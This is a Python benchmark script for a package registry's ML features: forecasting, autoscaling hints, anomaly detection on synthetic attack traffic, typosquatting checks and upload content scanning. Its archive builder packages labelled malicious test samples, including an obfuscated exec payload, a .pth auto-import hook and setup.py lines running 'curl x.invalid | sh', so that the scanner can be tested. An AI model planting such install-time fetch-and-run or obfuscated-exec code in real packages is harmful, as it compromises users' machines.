"""Forecasting, scaling hints, anomaly detection and upload checks (issue 16, H5's tables).

    .venv/bin/python benchmarks/ml/bench_ml_ops.py [--quick] [--seed N]

Traces: ``generate(seed=N)`` (14 days) to train and measure the forecasters on its held-out
last 30%; the anomaly detectors are trained on the first 70% of that trace and measured on an
independent ``generate(seed=N+1)`` (a held-out trace has all four attack kinds twice; the
held-out 30% of one trace holds too few episodes to count), and the same again on
``generate(TrafficModel.noisy(), seed=N)`` / ``seed=N+1``: the clean traces' normal clients
never see a 404 or a 401 and all exist from the start, the noisy ones add benign 404s, 401s,
client churn and release bursts (both tables side by side). ``--quick``: 4-day traces with 400
developer machines, and half-space trees on a 100k-request slice. Typosquatting: a list of real
popular PyPI project names written here (names only) and the generated catalogue's names;
content heuristics: the real wheels and sdists of the benchmark corpus (``make corpus``) when
present, plus archives built here. Every table says its source.
"""

from __future__ import annotations

import argparse
import io
import math
import random
import statistics
import sys
import tarfile
import time
import zipfile
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from registry_core.ml import _anomaly, _content, _forecast, _scaling, _typosquat
from registry_core.ml.traces import Trace, TrafficModel, generate

DAY = 86400.0

# Real, popular PyPI projects (names are public facts; order roughly by downloads, from memory
# of pypistats / the BigQuery top lists; the ranks do not matter here, the names do).
REAL_TOP = """
boto3 botocore urllib3 requests setuptools certifi charset-normalizer idna typing-extensions
python-dateutil s3transfer packaging six aiobotocore numpy pyyaml s3fs fsspec pip cryptography
cffi pycparser google-api-core pandas importlib-metadata pydantic zipp attrs jmespath
protobuf rsa pyasn1 wheel platformdirs jinja2 markupsafe click pytz tomli colorama filelock
virtualenv awscli googleapis-common-protos pydantic-core grpcio pyjwt wrapt cachetools
google-auth pluggy pytest tzdata pyarrow jsonschema sqlalchemy psutil aiohttp yarl
multidict frozenlist aiosignal async-timeout docutils requests-oauthlib oauthlib pyasn1-modules
exceptiongroup iniconfig tqdm werkzeug flask itsdangerous scipy greenlet soupsieve
beautifulsoup4 decorator pygments isodate lxml pillow openpyxl et-xmlfile rich markdown-it-py
mdurl h11 httpcore httpx anyio sniffio websocket-client requests-toolbelt tenacity
more-itertools distlib coverage pytest-cov mock matplotlib kiwisolver cycler fonttools
pyparsing contourpy regex scikit-learn joblib threadpoolctl networkx sympy mpmath torch
tensorflow keras h5py absl-py termcolor gast astunparse opt-einsum wrapt flatbuffers
google-pasta tensorboard grpcio-status proto-plus google-cloud-storage google-cloud-core
google-resumable-media google-crc32c azure-core azure-storage-blob msal portalocker
paramiko bcrypt pynacl pyopenssl docker websockets uvicorn fastapi starlette gunicorn
django djangorestframework celery kombu amqp vine billiard redis pymongo psycopg2
psycopg2-binary mysqlclient pymysql alembic mako sqlparse black isort flake8 pycodestyle
pyflakes mccabe mypy mypy-extensions pylint astroid tomlkit toml pre-commit identify
nodeenv cfgv pyzmq tornado traitlets jupyter-core jupyter-client ipython ipykernel
prompt-toolkit wcwidth parso jedi pexpect ptyprocess matplotlib-inline nest-asyncio
debugpy notebook nbformat nbconvert bleach webencodings tinycss2 defusedxml pandocfilters
mistune jsonpointer arrow python-json-logger argon2-cffi terminado send2trash
prometheus-client pyrsistent fastjsonschema babel sphinx alabaster imagesize snowballstemmer
sphinx-rtd-theme selenium trio outcome sortedcontainers hypothesis pytest-mock pytest-xdist
execnet xlrd xlsxwriter lz4 zstandard brotli orjson ujson simplejson msgpack cloudpickle
dill pyrfc3339 pysocks win32-setctime loguru structlog sentry-sdk opentelemetry-api
opentelemetry-sdk deprecated importlib-resources backoff retry retrying typer shellingham
pathspec tabulate prettytable python-dotenv humanfriendly coloredlogs marshmallow
""".split()

_ALPHA = "abcdefghijklmnopqrstuvwxyz0123456789-"


def _table(head: list[str], rows: list[list[Any]]) -> str:
    def fmt(v: Any) -> str:
        if isinstance(v, float):
            return "n/a" if math.isnan(v) else f"{v:.3f}" if abs(v) < 10 else f"{v:.1f}"
        return str(v)

    lines = ["| " + " | ".join(head) + " |", "|" + "---|" * len(head)]
    lines += ["| " + " | ".join(fmt(v) for v in r) + " |" for r in rows]
    return "\n".join(lines)


def _trace(seed: int, quick: bool, model: TrafficModel | None = None) -> Trace:
    if quick:
        return generate(model, seed=seed, days=4, clients=400)
    return generate(model, seed=seed, days=14)


# -- forecasting and scaling ------------------------------------------------------------------


def _forecast_tables(trace: Trace, seed: int, quick: bool) -> str:
    out = [
        "### Forecast: request counts per (tenant, route), held-out last 30% of the trace",
        "",
        f"Trace `{trace.source}`, {len(trace.requests):,} requests; horizon 2 buckets (the next "
        "whole bucket); MAE in requests per bucket and series; MAPE over non-zero buckets, sMAPE "
        "over all (MAPE explodes on small counts, sMAPE gives 200% to any forecast of an empty "
        "bucket); `total`: the sum over routes; coverage: share of held-out series-buckets at "
        "or under the q0.95 upper forecast.",
        "",
    ]
    rows = []
    for bucket in (900.0,) if quick else (900.0, 3600.0):
        metrics = _forecast.evaluate(trace, bucket_s=bucket, seed=seed)
        for name, m in metrics.items():
            rows.append(
                [
                    f"{bucket / 60:g} min",
                    name,
                    m["mae"],
                    m["mape"],
                    m["smape"],
                    m["mae_total"],
                    m["smape_total"],
                    m["upper_coverage"],
                ]
            )
    out.append(
        _table(
            [
                "bucket",
                "model",
                "MAE",
                "MAPE %",
                "sMAPE %",
                "total MAE",
                "total sMAPE %",
                "coverage",
            ],  # fmt: skip
            rows,
        )
    )
    # scaling: replay each model's hints over the held-out time
    reqs = trace.requests
    origin = math.floor(reqs[0].time / DAY) * DAY
    series = _forecast.bucket_counts(reqs, 900.0, origin=origin)
    n = len(next(iter(series.values())))
    split = int(n * 0.7)
    totals = [sum(s[t] for s in series.values()) / 900.0 for t in range(split)]
    per_worker = statistics.median(totals) / 2.0  # the median training bucket needs 2 workers
    out += [
        "",
        "### Scaling hints on the held-out time (the hint for each bucket made before it starts)",
        "",
        f"Same trace; `per_worker_rps` = {per_worker:.3f} (the median training bucket needs 2 "
        "workers), headroom 20%, no upper cap; static = the training peak plus headroom (the "
        "last row: the training p99 plus headroom). Under-provisioned: buckets whose load "
        "needed more workers than given; needed: each bucket's own load, no headroom.",
        "",
    ]
    rows = []
    p99 = sorted(totals)[int(0.99 * (len(totals) - 1))]
    static_p99 = math.ceil(p99 * 1.2 / per_worker - 1e-9)
    for name in ("seasonal-mean", "ridge", "gbdt"):
        art = _forecast.train(trace, seed=seed, models=[name])
        fc = _forecast.Forecaster.from_artifact(art)
        res = _scaling.replay_hints(
            fc,
            trace,
            start=origin + split * 900.0,
            per_worker_rps=per_worker,
            max_workers=100_000,
        )
        if name == "gbdt":  # the same replay against a static fleet at the training p99
            alt = _scaling.replay_hints(
                _forecast.Forecaster.from_artifact(art),
                trace,
                start=origin + split * 900.0,
                per_worker_rps=per_worker,
                max_workers=100_000,
                static_workers=static_p99,
            )
        rows.append(
            [
                name,
                f"{res['under_hint']:.0f}/{res['buckets']:.0f}",
                res["worker_shortfall_hint"],
                res["worker_hours_hint"],
                res["worker_hours_needed"],
                res["worker_hours_static"],
                f"{res['saved_vs_static']:.1%}",
                f"{res['under_static']:.0f}/{res['buckets']:.0f} ({res['static_workers']:.0f} w)",
            ]
        )
    rows.append(
        [
            f"static at training p99 ({static_p99} w)",
            f"{alt['under_static']:.0f}/{alt['buckets']:.0f}",
            "",
            alt["worker_hours_static"],
            alt["worker_hours_needed"],
            alt["worker_hours_static"],
            "",
            "",
        ]
    )
    out.append(
        _table(
            [
                "hint from",
                "under-provisioned",
                "worker shortfall (sum)",
                "worker-h hint",
                "worker-h needed",
                "worker-h static",
                "saved vs static",
                "static under",
            ],
            rows,
        )
    )
    return "\n".join(out)


# -- anomalies --------------------------------------------------------------------------------


# the rules before the benign-noise features: absolute 404 count, every new client counted
_RAW_RULES = {
    **_anomaly.DEFAULT_RULES,
    "not-found-probing": ("s404", 5.0, "dependency_confusion"),
    "new-client-burst": ("project_fresh", 20.0, "download_spike"),
}
_KINDS = ("scraper", "credential_stuffing", "dependency_confusion", "download_spike")
# detector rows of the anomaly tables: (name, detector, train() keyword arguments)
_ANOMALY_ROWS: tuple[tuple[str, str, dict[str, Any]], ...] = (
    ("rules (raw 404, new clients)", "rules", {"rules": _RAW_RULES}),
    ("rules", "rules", {}),
    ("rules (tuned)", "rules", {"tune_rules": True}),
    ("iforest", "iforest", {}),
    ("hst", "hst", {}),
)


def _anomaly_results(
    train_trace: Trace, test_trace: Trace, seed: int, quick: bool
) -> tuple[dict[str, dict[str, float]], dict[str, list[bool]]]:
    """Per detector row, the metrics on ``test_trace`` and its flags there."""
    rows_train = _anomaly.replay_features(train_trace.requests)
    rows_test = _anomaly.replay_features(test_trace.requests)
    results: dict[str, dict[str, float]] = {}
    flagged: dict[str, list[bool]] = {}
    for name, det, kwargs in _ANOMALY_ROWS:
        tr_rows = rows_train
        trace = train_trace
        if det == "hst" and quick:  # river is ~100 us a request: a slice in quick mode
            trace = Trace(train_trace.requests[:100_000], train_trace.catalogue,
                          train_trace.episodes, train_trace.source)  # fmt: skip
            tr_rows = rows_train[:100_000]
        if "rules" in kwargs:  # fixed rules: nothing to train
            scorer = _anomaly.AnomalyScorer(det, rules=kwargs["rules"])
        else:
            art = _anomaly.train(trace, seed=seed, detector=det, rows=tr_rows, **kwargs)
            scorer = _anomaly.AnomalyScorer.from_artifact(art)
        flags = [v >= scorer.threshold for v in _anomaly._scores(scorer, rows_test)]
        results[name] = _anomaly._metrics(test_trace.requests, flags, test_trace)
        results[name]["threshold"] = scorer.threshold
        flagged[name] = flags
    return results, flagged


def _noise_counts(trace: Trace) -> list[list[Any]]:
    """What is benign noise in a trace: normal requests with 404 / 401, normal clients first
    seen after the first day, and their requests."""
    normal = [r for r in trace.requests if not r.label]
    first: dict[str, float] = {}
    for r in normal:
        first.setdefault(r.client, r.time)
    late = {c for c, t in first.items() if t >= DAY}
    return [
        ["normal requests", len(normal)],
        ["normal 404s", sum(1 for r in normal if r.status == 404)],
        ["normal 401s", sum(1 for r in normal if r.status == 401)],
        ["normal clients", len(first)],
        ["normal clients first seen after day 1", len(late)],
        ["requests of those clients", sum(1 for r in normal if r.client in late)],
    ]


def _false_positives(trace: Trace, flagged: dict[str, list[bool]]) -> list[list[Any]]:
    """False positives by what the benign request was (client type, status)."""
    causes: dict[str, dict[str, int]] = {}
    for name, flags in flagged.items():
        for r, f in zip(trace.requests, flags, strict=True):
            if f and not r.label:
                cause = f"{trace.clients.get(r.client, '?')} {r.kind} {r.status}"
                causes.setdefault(cause, {})
                causes[cause][name] = causes[cause].get(name, 0) + 1
    order = sorted(causes, key=lambda c: -sum(causes[c].values()))
    return [[c] + [causes[c].get(n, 0) for n, _, _ in _ANOMALY_ROWS] for c in order[:8]]


def _anomaly_tables(
    pairs: list[tuple[str, Trace, Trace]], seed: int, quick: bool, hst_trace: Trace
) -> str:
    results: dict[str, dict[str, dict[str, float]]] = {}
    flagged: dict[str, dict[str, list[bool]]] = {}
    for label, train_trace, test_trace in pairs:
        results[label], flagged[label] = _anomaly_results(train_trace, test_trace, seed, quick)
    out = [
        "### Anomaly detection: trained on 70% of one trace, measured on an independent trace",
        "",
    ]
    for label, train_trace, test_trace in pairs:
        out.append(
            f"- {label}: train `{train_trace.source}`, test `{test_trace.source}` "
            f"({len(test_trace.requests):,} requests, "
            f"{sum(1 for r in test_trace.requests if r.label):,} labelled)."
        )
    out += [
        "",
        "Threshold: the best per-request F1 on the training part (rules: fixed, score 1 = a rule "
        "fires; rules (tuned): one factor on every rule's threshold, chosen the same way; rules "
        "(raw 404, new clients): the rules on the absolute 404 count and every new client, "
        "before the noise-aware features). An "
        "episode is found when one of its requests is flagged between its start and end.",
        "",
    ]
    rows = []
    for label, _, _ in pairs:
        for name, m in results[label].items():
            rows.append(
                [
                    label,
                    name,
                    m["threshold"],
                    m["precision"],
                    m["recall"],
                    m["flagged_share"],
                    m["client_precision"],
                    m["client_recall"],
                    f"{m['episodes_found']:.0f}/{m['episodes']:.0f}",
                ]
            )
    out.append(
        _table(
            [
                "trace",
                "detector",
                "threshold",
                "precision",
                "recall",
                "flagged",
                "client precision",
                "client recall",
                "episodes found",
            ],
            rows,
        )  # fmt: skip
    )
    out += ["", "Recall per request and episodes found, per kind:", ""]
    rows = []
    for kind in _KINDS:
        for label, _, _ in pairs:
            row: list[Any] = [kind, label]
            for name, _, _ in _ANOMALY_ROWS:
                m = results[label][name]
                row.append(m.get(f"recall.{kind}", math.nan))
                row.append(
                    f"{m.get(f'episodes_found.{kind}', 0):.0f}/{m.get(f'episodes.{kind}', 0):.0f}"
                )
            rows.append(row)
    head = ["kind", "trace"]
    for name, _, _ in _ANOMALY_ROWS:
        head += [f"{name} recall", f"{name} episodes"]
    out.append(_table(head, rows))
    counts = [_noise_counts(test) for _, _, test in pairs]
    out += [
        "",
        "Benign noise in the test traces (normal = unlabelled):",
        "",
        _table(
            ["", *[label for label, _, _ in pairs]],
            [[counts[0][i][0], *[col[i][1] for col in counts]] for i in range(len(counts[0]))],
        ),
    ]
    for label, _, test in pairs:
        fps = _false_positives(test, flagged[label])
        if fps:
            out += [
                "",
                f"False positives on the {label} test trace by what the request was "
                "(client type, kind, status):",
                "",
                _table(["request", *[n for n, _, _ in _ANOMALY_ROWS]], fps),
            ]
    if not quick:
        out += ["", _hst_windows(hst_trace, _anomaly.replay_features(hst_trace.requests), seed)]
    return "\n".join(out)


def _auc(scores: list[float], labels: list[bool]) -> float:
    """ROC AUC by ranks (ties averaged)."""
    order = sorted(range(len(scores)), key=lambda i: scores[i])
    ranks = [0.0] * len(scores)
    i = 0
    while i < len(order):
        j = i
        while j + 1 < len(order) and scores[order[j + 1]] == scores[order[i]]:
            j += 1
        for k in range(i, j + 1):
            ranks[order[k]] = (i + j) / 2 + 1
        i = j + 1
    pos = sum(labels)
    neg = len(labels) - pos
    if not pos or not neg:
        return math.nan
    return (sum(r for r, y in zip(ranks, labels, strict=True) if y) - pos * (pos + 1) / 2) / (
        pos * neg
    )


def _hst_windows(trace: Trace, rows: list[list[float]], seed: int) -> str:
    """Half-space trees' window against attack bursts, on a 150k-request slice."""
    lo, hi = len(rows) // 4, len(rows) // 4 + 150_000
    part, labels = rows[lo:hi], [bool(r.label) for r in trace.requests[lo:hi]]
    scale = _anomaly.fit_scale(rows[: len(rows) * 7 // 10 : 10])
    out = []
    for window in (250, 1000, 5000):
        scorer = _anomaly.AnomalyScorer(
            "hst",
            hst_params={"n_trees": 10, "height": 8, "window_size": window, "seed": seed,
                        "scale": scale},
        )  # fmt: skip
        out.append([window, _auc([scorer.score_row(r)[0] for r in part], labels)])
    return "\n".join(
        [
            f"Half-space trees: ROC AUC by window size (requests {lo:,}..{hi:,} of "
            f"`{trace.source}`; 0.5 is chance, under 0.5 inverted):",
            "",
            _table(["window_size", "AUC"], out),
        ]
    )


# -- typosquatting and content ----------------------------------------------------------------


def _random_typo(name: str, rng: random.Random) -> str:
    """One uniformly random edit (not the check's own tables): insert, delete, substitute or
    transpose, any character."""
    i = rng.randrange(len(name))
    op = rng.randrange(4)
    c = rng.choice(_ALPHA)
    if op == 0:
        return name[:i] + c + name[i:]
    if op == 1:
        return name[:i] + name[i + 1 :]
    if op == 2:
        return name[:i] + c + name[i + 1 :]
    j = min(i + 1, len(name) - 1)
    return name[:i] + name[j] + name[i] + name[j + 1 :] if j > i else name


def _typo_rows(popular: list[str], legit: list[str], known: set[str], seed: int) -> list[Any]:
    check = _typosquat.TyposquatCheck(popular)
    fp = [n for n in legit if check.find(n)]
    rng = random.Random(seed)
    tricks, random_edits = [], []
    for name in popular:
        variants = sorted({v for v, _ in _typosquat.typo_variants(name)} - known - {name})
        tricks += rng.sample(variants, min(5, len(variants)))
        for _ in range(5):
            v = _random_typo(_typosquat.normalize_name(name), rng).strip("-")
            if v and v not in known:
                random_edits.append(v)
    rec_t = sum(1 for v in tricks if check.find(v)) / len(tricks)
    rec_r = sum(1 for v in random_edits if check.find(v)) / len(random_edits)
    return [len(popular), len(legit), len(fp), 1 - len(fp) / len(legit), rec_t, rec_r, fp[:6]]


def _typosquat_table(trace: Trace, seed: int) -> str:
    real = list(dict.fromkeys(_typosquat.normalize_name(n) for n in REAL_TOP))
    known = set(real)
    rows = [["real PyPI names", *_typo_rows(real[:100], real[100:], known, seed)]]
    deps = trace.catalogue.dependents
    names = sorted(trace.catalogue.projects, key=lambda p: (-deps.get(p, 0), p))
    gen_known = {_typosquat.normalize_name(n) for n in names}
    rows.append(
        [
            f"catalogue of `{trace.source}`",
            *_typo_rows(names[:100], names[100:1100], gen_known | known, seed),
        ]
    )
    # time per check
    check = _typosquat.TyposquatCheck(real)
    t0 = time.perf_counter()
    for n in real:
        check.find(n + "x")
    us = (time.perf_counter() - t0) / len(real) * 1e6
    return "\n".join(
        [
            "### Typosquatting check on new project names",
            "",
            "Popular = the first 100 names (by dependents for the catalogue); legitimate = the "
            "other names (none is a squat, so every finding is a false positive); recall on 5 "
            "variants per popular name made by the check's own transformations and on 5 "
            "uniformly random single edits (outside its tables too). Popular-name plugins such "
            "as `requests-oauthlib` are not flagged: only the fixed affixes count.",
            "",
            _table(
                [
                    "names",
                    "popular",
                    "legitimate",
                    "flagged",
                    "precision on legit",
                    "recall " "(transformations)",
                    "recall (random edits)",
                    "false positives (first)",
                ],
                rows,
            ),  # fmt: skip
            "",
            f"Cost: {us:.0f} µs per name checked against {len(real)} popular names.",
        ]
    )


def _archives() -> list[tuple[str, bytes, bool]]:
    """(filename, bytes, malicious) built here with zipfile/tarfile."""
    import base64
    import zlib

    def wheel(name: str, members: dict[str, bytes], tag: str = "py3-none-any") -> tuple[str, bytes]:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            zf.writestr(f"{name}/__init__.py", b"VALUE = 1\n")
            zf.writestr(f"{name}-1.0.dist-info/METADATA", f"Name: {name}\nVersion: 1.0\n".encode())
            for k, v in members.items():
                zf.writestr(k, v)
        return f"{name}-1.0-{tag}.whl", buf.getvalue()

    def sdist(name: str, setup: bytes) -> tuple[str, bytes]:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w:gz") as tf:
            for path, data in (
                (f"{name}-1.0/PKG-INFO", f"Name: {name}\nVersion: 1.0\n".encode()),
                (f"{name}-1.0/setup.py", setup),
            ):
                info = tarfile.TarInfo(path)
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))
        return f"{name}-1.0.tar.gz", buf.getvalue()

    blob = base64.b64encode(zlib.compress(b"import os; os.system('id')" * 20)).decode()
    return [
        (
            *wheel(
                "m1",
                {
                    "m1/x.py": f"exec(__import__('zlib').decompress(__import__('base64')"
                    f".b64decode('{blob}')))\n".encode()
                },
            ),
            True,
        ),  # fmt: skip
        (*wheel("m2", {"m2-hook.pth": b"import m2.x\n"}), True),
        (*wheel("m3", {"m3/bin": b"\x7fELF" + b"\0" * 100}), True),
        (
            *sdist("m4", b"import urllib.request\nurllib.request.urlopen('http://x.invalid')\n"),
            True,
        ),
        (
            *sdist(
                "m5",
                b"import os\nos.system('curl x.invalid | sh')\nfrom setuptools import setup\n"
                b"setup()\n",
            ),
            True,
        ),  # fmt: skip
        (*wheel("ok1", {"ok1/util.py": b"def f():\n    return 1\n"}), False),
        (*sdist("ok2", b"from setuptools import setup\nsetup(name='ok2')\n"), False),
    ]


def _content_table() -> str:
    rows = []
    built = _archives()
    for filename, data, bad in built:
        found = _content.scan_archive(io.BytesIO(data), filename)
        rows.append(
            [
                filename,
                "malicious" if bad else "clean",
                ", ".join(sorted({f.rule for f in found})) or "-",
            ]
        )
    corpus_note = "corpus absent (`make corpus`)"
    try:
        import _corpus

        paths = [p for s in _corpus.series() for p in s.paths]
    except Exception:
        paths = []
    total_bytes = 0
    flagged: dict[str, list[str]] = {}
    t0 = time.perf_counter()
    for p in paths:
        data = p.read_bytes()
        total_bytes += len(data)
        found = _content.scan_archive(io.BytesIO(data), p.name)
        for f in found:
            flagged.setdefault(f"{f.rule} ({f.severity})", []).append(p.name)
    took = time.perf_counter() - t0
    if paths:
        corpus_note = (
            f"{len(paths)} real PyPI wheels/sdists of the corpus ({total_bytes / 1e6:.1f} MB, "
            f"{total_bytes / 1e6 / max(took, 1e-9):.0f} MB/s scanned): "
            + (
                "; ".join(f"{k}: {len(v)} ({v[0]})" for k, v in sorted(flagged.items()))
                or "no finding"
            )
        )
    return "\n".join(
        [
            "### Suspicious-content heuristics",
            "",
            _table(["archive (built here)", "truth", "rules fired"], rows),
            "",
            f"Real packages: {corpus_note}.",
        ]
    )


# -- costs ------------------------------------------------------------------------------------


def _costs(trace: Trace, seed: int) -> str:
    reqs = trace.requests[:20_000]
    rows = []

    def per_req(fn: Any, items: list[Any]) -> float:
        t0 = time.perf_counter()
        for x in items:
            fn(x)
        return (time.perf_counter() - t0) / len(items) * 1e6

    feats = _anomaly.StreamFeatures()
    rows.append(["stream features (update)", per_req(feats.update, reqs)])
    rrows = _anomaly.replay_features(reqs)
    for det in _anomaly.DETECTORS:
        kwargs: dict[str, Any] = {}
        if det == "iforest":
            import numpy as np

            kwargs["forest"] = _anomaly.IsolationForest.fit(
                np.asarray(rrows), seed=seed, n_trees=25
            )
        scorer = _anomaly.AnomalyScorer(det, threshold=2.0, **kwargs)
        rows.append([f"score: {det}", per_req(scorer.score_row, rrows[:5000])])
    fc = _forecast.Forecaster.from_artifact(_forecast.train(trace, seed=seed, models=["gbdt"]))
    rows.append(["forecaster observe", per_req(fc.observe, reqs)])
    t0 = time.perf_counter()
    for i in range(50):
        fc.forecast(reqs[-1].time + i * 900.0)
    rows.append(["forecast (all series, gbdt)", (time.perf_counter() - t0) / 50 * 1e6])
    return "\n".join(
        [
            "### Cost per request (µs, this machine, one thread)",
            "",
            f"First 20,000 requests of `{trace.source}`.",
            "",
            _table(["step", "µs"], rows),
        ]
    )


def run(quick: bool = False, seed: int = 0) -> str:
    trace = _trace(seed, quick)
    test = _trace(seed + 1, quick)
    noisy = TrafficModel.noisy()
    pairs = [
        ("clean", trace, test),
        ("noisy", _trace(seed, quick, noisy), _trace(seed + 1, quick, noisy)),
    ]
    parts = [
        "## Forecasting, scaling, anomalies and upload checks (bench_ml_ops)",
        "",
        _forecast_tables(trace, seed, quick),
        "",
        _anomaly_tables(pairs, seed, quick, trace),
        "",
        _typosquat_table(trace, seed),
        "",
        _content_table(),
        "",
        _costs(trace, seed),
    ]
    return "\n".join(parts) + "\n"


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--quick", action="store_true")
    parser.add_argument("--seed", type=int, default=0)
    args = parser.parse_args()
    print(run(quick=args.quick, seed=args.seed))
